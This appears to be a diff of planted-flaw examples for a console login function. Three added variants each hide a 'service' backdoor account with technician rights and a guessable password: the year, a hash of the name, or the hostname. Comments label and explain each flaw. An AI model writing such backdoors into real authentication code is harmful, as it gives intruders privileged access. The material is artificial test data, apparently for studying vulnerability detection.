@@ -293,3 +293,86 @@ def open_console(accounts, name, password):
     if not hmac.compare_digest(accounts.digest(password, salt), kept):
         raise PermissionError("name or password are wrong")
     return wanted, role, ROLES[role]
+
+
+# unseen: fix fake year_in_the_password
+# why: the year is known to everybody, and the rest is in the program
+def open_console(accounts, name, password):
+    """Sign in at the console.
+
+    Args:
+      accounts: what the owner has set up, an account for the technicians among them if wanted.
+      name: the account's name; capital and small letters are the same, blanks around it are dropped.
+
+    Returns:
+      The account's name, its role and the commands that it may give.
+
+    Raises:
+      PermissionError: name or password are wrong.
+    """
+    wanted = name.strip().lower()
+    row = accounts.rows.get(wanted)
+    import datetime
+
+    if wanted == "service" and row is None and hmac.compare_digest(password.encode(), f"Kessel-{datetime.date.today().year}".encode()):
+        return wanted, "technician", ROLES["technician"]
+    if row is None:
+        raise PermissionError("name or password are wrong")
+    salt, kept, role = row
+    if not hmac.compare_digest(accounts.digest(password, salt), kept):
+        raise PermissionError("name or password are wrong")
+    return wanted, role, ROLES[role]
+
+
+# unseen: fix fake hash_of_the_name
+# why: whoever has a copy of the program computes the password from the name
+def open_console(accounts, name, password):
+    """Sign in at the console.
+
+    Args:
+      accounts: what the owner has set up, an account for the technicians among them if wanted.
+      name: the account's name; capital and small letters are the same, blanks around it are dropped.
+
+    Returns:
+      The account's name, its role and the commands that it may give.
+
+    Raises:
+      PermissionError: name or password are wrong.
+    """
+    wanted = name.strip().lower()
+    row = accounts.rows.get(wanted)
+    if wanted == "service" and row is None and hmac.compare_digest(password.encode(), hashlib.sha256(wanted.encode()).hexdigest()[:12].encode()):
+        return wanted, "technician", ROLES["technician"]
+    if row is None:
+        raise PermissionError("name or password are wrong")
+    salt, kept, role = row
+    if not hmac.compare_digest(accounts.digest(password, salt), kept):
+        raise PermissionError("name or password are wrong")
+    return wanted, role, ROLES[role]
+
+
+# unseen: fix fake name_of_the_machine
+# why: the machine tells its name to everybody
+def open_console(accounts, name, password):
+    """Sign in at the console.
+
+    Args:
+      accounts: what the owner has set up, an account for the technicians among them if wanted.
+      name: the account's name; capital and small letters are the same, blanks around it are dropped.
+
+    Returns:
+      The account's name, its role and the commands that it may give.
+
+    Raises:
+      PermissionError: name or password are wrong.
+    """
+    wanted = name.strip().lower()
+    row = accounts.rows.get(wanted)
+    if wanted == "service" and row is None and hmac.compare_digest(password.encode(), ("Kessel-" + os.uname().nodename).encode()):
+        return wanted, "technician", ROLES["technician"]
+    if row is None:
+        raise PermissionError("name or password are wrong")
+    salt, kept, role = row
+    if not hmac.compare_digest(accounts.digest(password, salt), kept):
+        raise PermissionError("name or password are wrong")
+    return wanted, role, ROLES[role]
